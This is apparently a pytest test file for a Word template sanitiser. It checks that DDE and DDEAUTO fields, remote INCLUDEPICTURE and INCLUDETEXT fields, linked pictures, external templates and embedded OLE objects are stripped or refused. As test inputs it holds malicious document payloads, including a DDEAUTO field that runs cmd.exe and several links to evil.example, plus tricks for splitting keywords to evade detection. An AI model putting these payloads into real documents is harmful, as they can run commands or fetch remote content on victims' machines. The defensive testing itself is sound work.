"""Nothing in a template fetches, runs or embeds anything once it is accepted."""

import zipfile
from io import BytesIO

import docx
import pytest

from adapters.docx.filler import Filler
from adapters.docx.template import CompiledTemplate, compile_template
from domain.documents.refusals import TemplateHasChunks
from pictures import a_picture
from word import (
    NAMESPACES,
    a_docx,
    complex_field,
    member,
    p,
    paragraphs,
    relationship,
    rels,
    run,
    xml,
)

PICTURE = (
    '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"/><a:graphic><a:graphicData>'
    '<a:blip r:{how}="{link}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)


def compiled(body: str, links: str = "", **parts: str) -> CompiledTemplate:
    return compile_template(a_docx(body, relationships=links, parts=parts))


def document(template: CompiledTemplate) -> bytes:
    made = Filler(template).fill({"x": "value"})
    docx.Document(BytesIO(made))
    return made


def everything(made: bytes) -> bytes:
    archive = zipfile.ZipFile(BytesIO(made))
    return b"".join(archive.read(name) for name in archive.namelist())


def codes(template: CompiledTemplate) -> list[str]:
    assert not template.errors()
    return [problem.code.removeprefix("documents.") for problem in template.problems]


@pytest.mark.parametrize(
    "code",
    [
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ',
        ' DDE "Excel" "book" "r1c1" ',
        ' INCLUDEPICTURE "https://evil.example/x.png" \\d ',
        ' INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx" ',
        " IMPORT https://evil.example/x ",
        ' DATABASE \\d "https://evil.example" ',
        ' link Excel.Sheet.8 "https://evil.example" ',
    ],
)
@pytest.mark.parametrize("part", ["document", "header"])
def test_a_field_that_fetches_becomes_the_text_it_shows(code: str, part: str) -> None:
    field = p("a ", complex_field(code.replace('"', "&quot;"), "shown"), " {{x}}")
    template = compiled(field) if part == "document" else compiled(p("{{x}}"), header=field)

    made = document(template)

    assert codes(template) == ["field-neutralised"]
    assert paragraphs(made, f"word/{part}.xml") == ["a shown value"]
    assert b"evil" not in everything(made)
    assert b"DDE" not in everything(made)


def test_a_simple_field_that_fetches_becomes_its_text_too() -> None:
    body = p(f'<w:fldSimple w:instr="INCLUDETEXT https://evil.example">{run("old")}</w:fldSimple>')

    assert paragraphs(document(compiled(body + p("{{x}}")))) == ["old", "value"]


def test_a_keyword_put_together_from_other_fields_is_no_way_around() -> None:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = complex_field(' QUOTE "DDEAUTO" ', "DDEAUTO")
    code = '<w:r><w:instrText xml:space="preserve"> cmd evil </w:instrText></w:r>'

    made = document(compiled(p(begin, inner, code, end, "{{x}}")))

    assert paragraphs(made) == ["value"]
    assert b"evil" not in everything(made)


def test_a_keyword_cut_over_runs_is_found() -> None:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DE a b"))
    field = complex_field("@", "shown").replace(
        '<w:r><w:instrText xml:space="preserve">@</w:instrText></w:r>', pieces
    )

    assert codes(compiled(p(field))) == ["field-neutralised"]


@pytest.mark.parametrize("how", ["link", "embed"])
def test_a_picture_on_another_machine_is_left_blank(how: str) -> None:
    link = relationship("rId9", "image", "https://evil.example/x.png", external=True)

    made = document(compiled(p(PICTURE.format(how=how, link="rId9"), "{{x}}"), link))

    assert b"evil" not in everything(made)
    assert b'r:embed="rId9"' in member(made, "word/document.xml")
    assert b"atelier-blank.png" in member(made, "word/_rels/document.xml.rels")


def test_another_template_and_a_mail_merge_source_are_cut_off() -> None:
    settings = (
        '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:dataSource r:id="rId2"/></w:mailMerge>'
        '<w:zoom w:percent="100"/>'
    )
    links = rels(
        relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
        + relationship("rId2", "mailMergeSource", "file:///c:/people.xlsx", external=True)
    )
    data = a_docx(
        p("{{x}}"),
        parts={"settings": settings},
        members={"word/_rels/settings.xml.rels": links},
    )

    template = compile_template(data)

    made = document(template)
    assert codes(template) == ["external-neutralised"] * 2
    assert b"evil" not in everything(made)
    assert b"people.xlsx" not in everything(made)
    kept = member(made, "word/settings.xml")
    assert b"zoom" in kept
    assert b"mailMerge" not in kept


def test_hyperlinks_stay_and_are_listed() -> None:
    link = relationship("rId9", "hyperlink", "https://fine.example/", external=True)

    template = compiled(p(f'<w:hyperlink r:id="rId9">{run("{{x}}")}</w:hyperlink>'), link)

    assert template.external == ("https://fine.example/",)
    links = docx.Document(BytesIO(document(template))).paragraphs[0].hyperlinks
    assert [(link.text, link.url) for link in links] == [("value", "https://fine.example/")]


def test_an_embedded_object_goes_and_its_picture_stays() -> None:
    shape = (
        '<w:r><w:object><v:shape><v:imagedata r:id="rId8"/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r>'
    )
    links = relationship("rId8", "image", "media/i.png") + relationship(
        "rId9", "oleObject", "embeddings/evil.bin"
    )
    data = a_docx(
        p(shape, "{{x}}"),
        relationships=links,
        members={"word/embeddings/evil.bin": b"MZ evil", "word/media/i.png": a_picture()},
        defaults='<Default Extension="bin" ContentType="application/octet-stream"/>'
        '<Default Extension="png" ContentType="image/png"/>',
    )

    template = compile_template(data)

    made = document(template)
    assert codes(template) == ["object-neutralised"]
    assert b"evil" not in everything(made)
    assert b'imagedata r:id="rId8"' in member(made, "word/document.xml")


@pytest.mark.parametrize("kind", ["aFChunk", "subDocument"])
def test_documents_that_word_would_merge_in_are_refused(kind: str) -> None:
    link = relationship("rId9", kind, "other.html", external=kind == "subDocument")

    with pytest.raises(TemplateHasChunks) as refused:
        compiled(p("x"), link)

    assert refused.value.code == "documents.template-chunks"


def test_what_hides_in_the_glossary_is_found() -> None:
    inside = p(complex_field("DDEAUTO a b", "shown"))
    glossary = xml(f"<w:glossaryDocument {NAMESPACES}>{inside}</w:glossaryDocument>")

    template = compile_template(
        a_docx(p("{{x}}"), members={"word/glossary/document.xml": glossary})
    )

    assert codes(template) == ["field-neutralised"]
    assert b"DDEAUTO" not in everything(document(template))


@pytest.mark.parametrize("how", ["link", "embed"])
def test_a_picture_behind_what_calls_itself_a_hyperlink_is_not_fetched(how: str) -> None:
    link = relationship("rId900", "hyperlink", "https://evil.example/x.png", external=True)
    template = compiled(p("{{x}}", PICTURE.format(how=how, link="rId900")), link)

    made = document(template)

    assert codes(template) == ["external-neutralised"]
    assert b"rId900" not in member(made, "word/document.xml")


def test_a_clicked_hyperlink_stays_beside_it() -> None:
    link = relationship("rId900", "hyperlink", "https://example.org/", external=True)
    clicked = f'<w:hyperlink r:id="rId900">{run("here")}</w:hyperlink>'

    made = document(compiled(p("{{x}} ", clicked), link))

    assert b'r:id="rId900"' in member(made, "word/document.xml")


@pytest.mark.parametrize("attribute", ["src", "o:href", "r:href"])
def test_an_old_drawing_keeps_no_address(attribute: str) -> None:
    shape = (
        f'<w:r><w:pict><v:shape><v:imagedata {attribute}="https://evil.example/x.png"/></v:shape>'
        "</w:pict></w:r>"
    )
    template = compiled(p("{{x}}", shape))

    made = document(template)

    assert codes(template) == ["external-neutralised"]
    assert b"evil" not in everything(made)
